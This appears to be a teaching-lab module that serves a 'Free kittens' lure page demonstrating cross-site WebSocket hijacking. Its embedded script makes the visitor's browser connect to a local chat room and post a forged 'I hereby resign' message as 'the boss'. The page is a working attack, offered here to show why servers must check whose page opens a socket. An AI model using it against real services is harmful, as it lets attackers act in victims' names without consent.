"""A page that makes its visitor's browser write into a chat, as long as no server asks whose page.

By hand, from the notebooks folder: `cd labs`, then
`../../.venv/bin/daphne --port 9000 evil_site:application`, and in a browser that uses the chat
http://127.0.0.1:9000/#ws://127.0.0.1:8000/ws/chat/lobby/ to attack this room.
"""

# The page reads its target from the address; the server never sees that, and repeats nothing.
PAGE = b"""<!doctype html>
<html lang="en">
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="icon" href="data:,">
<title>Free kittens</title>
<h1>Free kittens</h1>
<p>They are on their way. Meanwhile, on the chat: <output id="outcome">knocking</output></p>
<script type="module">
  const outcome = document.querySelector("#outcome");
  const socket = new WebSocket(location.hash.slice(1));
  socket.onopen = () => {
    const post = { type: "post", author: "the boss", text: "I hereby resign." };
    socket.send(JSON.stringify(post));
  };
  socket.onmessage = ({ data }) => {
    const event = JSON.parse(data);
    if (event.type === "message") outcome.textContent = `written as ${event.author}`;
  };
  socket.onclose = ({ code }) => { outcome.textContent = `closed with ${code}`; };
</script>
</html>
"""


async def application(scope, receive, send):
    if scope["type"] != "http":
        # So says the ASGI specification: a server then goes on without, say, "lifespan".
        raise ValueError(f"This application does not speak {scope['type']}.")
    headers = [(b"content-type", b"text/html; charset=utf-8")]
    await send({"type": "http.response.start", "status": 200, "headers": headers})
    await send({"type": "http.response.body", "body": PAGE})
